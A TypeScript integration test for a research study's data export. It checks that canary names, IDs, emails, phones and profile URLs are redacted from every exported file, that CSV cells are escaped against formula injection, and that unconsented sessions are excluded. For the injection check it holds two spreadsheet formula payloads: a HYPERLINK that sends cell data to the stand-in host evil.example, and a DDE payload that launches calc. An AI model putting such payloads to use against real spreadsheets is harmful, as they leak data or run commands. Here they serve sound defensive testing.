/**
 * Canary test of the export: canary names, profile URLs, emails and phones enter through every path a
 * participant controls (the study link's URL parameters, chat, artifact text, an upload's file name, the
 * survey's free text), then a real export is made and EVERY file of the dataset (names and contents) is
 * searched for each canary. Also: CSV cells a spreadsheet would run as formulas, and sessions that never
 * consented (left out unless asked for, counted in the manifest).
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callOk, connectSocket, join, nextPush, startTestServer, toWorkspace, type ParticipantClient, type TestServer } from '../support/integrationHarness';
import { exportStudy } from '../../research/exports/exportStudy';
import { openStudyRedactor } from '../../research/exports/studyRedactor';
import { tinyPng } from '../support/png';

/** A name that is not id-shaped (no digit), given as a URL parameter the way a referral link would. */
const NAME = 'CarolJones';
const PID = '5f0c9e2b7a1d4c3b2a190817';
const LINKEDIN = 'https://www.linkedin.com/in/carol-jones-canary';
const PROFILE_URLS = [
  LINKEDIN,
  'linkedin.com/in/carol-jones-canary2',
  'https://facebook.com/carol.jones.canary3',
  'https://github.com/caroljonescanary4',
  'https://x.com/caroljonescanary5',
  'https://www.instagram.com/caroljonescanary6/',
  'https://mastodon.social/@caroljonescanary7',
  'https://www.example.edu/~caroljonescanary8/',
];
const EMAIL = 'carol.jones.canary@example.com';
const PHONE = '+1 415 555 0199';
/** Survey free text that is not personal: present only when the study exports free text redacted. */
const FREE_TEXT_SENTINEL = 'purple-elephant-sentinel';

/** Every canary and the fragments of it that must not survive (case-insensitive). */
const CANARIES = [NAME, 'carol jones', PID, 'carol-jones-canary', 'carol.jones.canary', 'caroljonescanary', '555 0199', '4155550199', '555-0199'];

const personal = (where: string) =>
  `${where}: I am ${NAME} (${PID}), mail ${EMAIL}, call ${PHONE}, profiles ${PROFILE_URLS.join(' , ')} .`;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for payment")';
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

let t: TestServer;

async function upload(token: string, name: string): Promise<string> {
  const res = await fetch(`${t.server.url}/api/session/upload?field=plot&name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'image/png' },
    body: new Uint8Array(tinyPng()),
  }).then((r) => r.json() as Promise<any>);
  return res.data.uploadId as string;
}

/** A participant who consents, chats, uploads, submits the artifact and answers the survey. */
async function fullSession(params: Record<string, string>, text: (where: string) => string, fileName: string): Promise<string> {
  const j = await join(t, 'visualization', params);
  const s = await connectSocket(t, j.token);
  await toWorkspace(s);
  const done = nextPush(s, 'chat:done');
  await callOk(s, 'chat:send', { clientId: `canary-${j.sessionId.slice(0, 8)}`, text: text('chat'), clientTs: Date.now() });
  await done;
  const plot = await upload(j.token, fileName);
  await callOk(s, 'artifact:draft', { fields: { hypothesis: text('draft') }, clientTs: Date.now() });
  await callOk(s, 'artifact:submit', {
    fields: { hypothesis: text('hypothesis'), code: `# ${text('code')}\nprint(1)`, plot, interpretation: text('interpretation') },
    clientTs: Date.now(),
  });
  await callOk(s, 'survey:submit', {
    answers: { confidence: 3, ai_usefulness: 4, speed: 2, attention: 4, satisfaction: 5, comments: `${FREE_TEXT_SENTINEL} ${text('survey')}` },
    clientTs: Date.now(),
  });
  return j.sessionId;
}

/** Every file under `dir` (relative paths). */
function allFiles(dir: string): string[] {
  return (fs.readdirSync(dir, { recursive: true }) as string[]).map(String).filter((f) => fs.statSync(path.join(dir, f)).isFile());
}

/** The canaries found in any file name or file content of a dataset folder. */
function leaks(dir: string, canaries: readonly string[]): string[] {
  const found: string[] = [];
  for (const file of allFiles(dir)) {
    const content = fs.readFileSync(path.join(dir, file), 'latin1').toLowerCase();
    for (const c of canaries) {
      if (file.toLowerCase().includes(c.toLowerCase())) found.push(`${c} in the file name ${file}`);
      if (content.includes(c.toLowerCase())) found.push(`${c} in ${file}`);
    }
  }
  return found;
}

const exportTo = async (name: string, options: Partial<Parameters<typeof exportStudy>[0]> = {}) => {
  const outDir = path.join(t.dataDir, name);
  const result = await exportStudy({ store: t.server.store, dataDir: t.dataDir, studyId: 'visualization', outDir, includePilot: false, includeIdentities: false, ...options });
  return { outDir, manifest: result.manifest };
};

const csvRows = (file: string) => parse(fs.readFileSync(file, 'utf8'), { columns: true }) as Record<string, string>[];

let unconsented: ParticipantClient[] = [];
let carolSession = '';
let otherSession = '';

beforeAll(async () => {
  t = await startTestServer();
  carolSession = await fullSession({ PROLIFIC_PID: PID, STUDY_ID: 'prolific-study-canary', SESSION_ID: 'prolific-session-canary', ref: NAME }, personal, `${NAME}_passport.png`);
  // Formula payloads as platform ids, the values a researcher sees in identities.csv when paying.
  otherSession = await fullSession({ participant_label: HYPERLINK }, (w) => `${w}: plain text`, 'plot.png');
  await fullSession({ PROLIFIC_PID: AT_SUM }, (w) => `${w}: plain text`, 'plot.png');
  // A bare-link visit that never answers consent, and one that declines.
  const bare = await join(t, 'visualization', { PROLIFIC_PID: 'bare-visit-never-consented' });
  unconsented = [await connectSocket(t, bare.token)];
  const decliner = await join(t, 'visualization', { PROLIFIC_PID: 'visit-declined-consent' });
  const d = await connectSocket(t, decliner.token);
  const state = await callOk(d, 'session:state', {});
  await callOk(d, 'consent:respond', { accept: false, version: state.consent.version, clientTs: Date.now() });
  unconsented.push(d);
}, 60_000);
afterAll(async () => {
  await t?.close();
});

describe('canaries through every path, grepped in every file of the dataset', () => {
  it('default export (free text omitted): no canary in any file name or content, and the free text is absent', async () => {
    const { outDir, manifest } = await exportTo('canary-default');
    expect(allFiles(outDir)).toEqual(expect.arrayContaining(['sessions.csv', 'messages.jsonl', 'events.jsonl', 'artifacts.jsonl', 'manifest.json', 'codebook.md']));
    expect(allFiles(outDir).some((f) => f.startsWith('artifacts/') && f.endsWith('.png'))).toBe(true);
    expect(leaks(outDir, [...CANARIES, EMAIL, FREE_TEXT_SENTINEL])).toEqual([]);
    // The chat and artifact texts are still there, with markers where the canaries were.
    const messages = fs.readFileSync(path.join(outDir, 'messages.jsonl'), 'utf8');
    expect(messages).toContain('chat: I am [REDACTED:identity]');
    expect(messages).toMatch(/profiles \[REDACTED:url\] , \[REDACTED:url\]/);
    expect(manifest.redactions.url).toBeGreaterThanOrEqual(PROFILE_URLS.length);
    expect(manifest.free_text).toEqual({ setting: 'omitted', answers: 3 });
  });

  it('a study exporting free text redacted keeps the answer without its canaries', async () => {
    const { outDir, manifest } = await exportTo('canary-redacted', { freeText: 'redacted' });
    expect(leaks(outDir, [...CANARIES, EMAIL])).toEqual([]);
    const events = fs.readFileSync(path.join(outDir, 'events.jsonl'), 'utf8');
    expect(events).toContain(`${FREE_TEXT_SENTINEL} survey: I am [REDACTED:identity]`);
    expect(manifest.free_text).toEqual({ setting: 'redacted', answers: 3 });
  });

  it('with identities: the canaries are only in identities.csv, the science files stay clean', async () => {
    const { outDir } = await exportTo('canary-identities', { includeIdentities: true });
    expect(fs.readFileSync(path.join(outDir, 'identities.csv'), 'utf8')).toContain(NAME);
    fs.rmSync(path.join(outDir, 'identities.csv'));
    expect(leaks(outDir, [...CANARIES, EMAIL])).toEqual([]);
  });
});

describe('the study redactor the judge and annotator use (study mode)', () => {
  it("redacts a session's own URL-parameter values like the export, and only in that session's text", async () => {
    const redactor = await openStudyRedactor(t.server.store, 'visualization');
    expect(redactor.forSessionId(carolSession).redact(`hi ${NAME}, id ${PID}`)).toBe('hi [REDACTED:identity], id [REDACTED:identity]');
    // A word-like value blanks nothing in other sessions (a participant adding ?x=python cannot scrub "python" study-wide);
    // platform ids are redacted everywhere.
    expect(redactor.forSessionId(otherSession).redact(`hi ${NAME}, id ${PID}`)).toBe(`hi ${NAME}, id [REDACTED:identity]`);
  });
});

describe('CSV formula injection', () => {
  it('identities.csv and every science CSV hold no cell a spreadsheet would run as a formula', async () => {
    const { outDir } = await exportTo('formulas', { includeIdentities: true });
    const values = csvRows(path.join(outDir, 'identities.csv')).map((r) => r.value);
    expect(values).toContain(`'${HYPERLINK}`);
    expect(values).toContain(`'${AT_SUM}`);
    for (const file of allFiles(outDir).filter((f) => f.endsWith('.csv'))) {
      for (const row of csvRows(path.join(outDir, file))) {
        for (const [column, cell] of Object.entries(row)) {
          if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell))) throw new Error(`${file} ${column}: formula-leading cell ${cell}`);
        }
      }
    }
  });
});

describe('sessions that never answered the consent', () => {
  it('are left out by default and counted in the manifest; a decline (an answer) is kept', async () => {
    const { outDir, manifest } = await exportTo('consented-only');
    const rows = csvRows(path.join(outDir, 'sessions.csv'));
    expect(rows.map((r) => r.status).sort()).toEqual(['completed', 'completed', 'completed', 'declined']);
    expect(rows.filter((r) => r.consented_at === '').map((r) => r.status)).toEqual(['declined']);
    expect(manifest.counts.sessions).toBe(4);
    expect(manifest.counts.excluded_unconsented_sessions).toBe(1);
    expect(manifest.filters.include_unconsented).toBe(false);
    const sessionIds = new Set(rows.map((r) => r.session_id));
    for (const line of fs.readFileSync(path.join(outDir, 'events.jsonl'), 'utf8').trim().split('\n')) {
      expect(sessionIds.has((JSON.parse(line) as { session_id: string }).session_id)).toBe(true);
    }
  });

  it('are included with includeUnconsented (--include-unconsented), with an empty consented_at', async () => {
    const { outDir, manifest } = await exportTo('with-unconsented', { includeUnconsented: true });
    const rows = csvRows(path.join(outDir, 'sessions.csv'));
    expect(rows).toHaveLength(5);
    expect(rows.filter((r) => r.consented_at === '').map((r) => r.status).sort()).toEqual(['active', 'declined']);
    expect(manifest.counts.excluded_unconsented_sessions).toBe(0);
    expect(manifest.filters.include_unconsented).toBe(true);
    expect(unconsented).toHaveLength(2);
  });
});
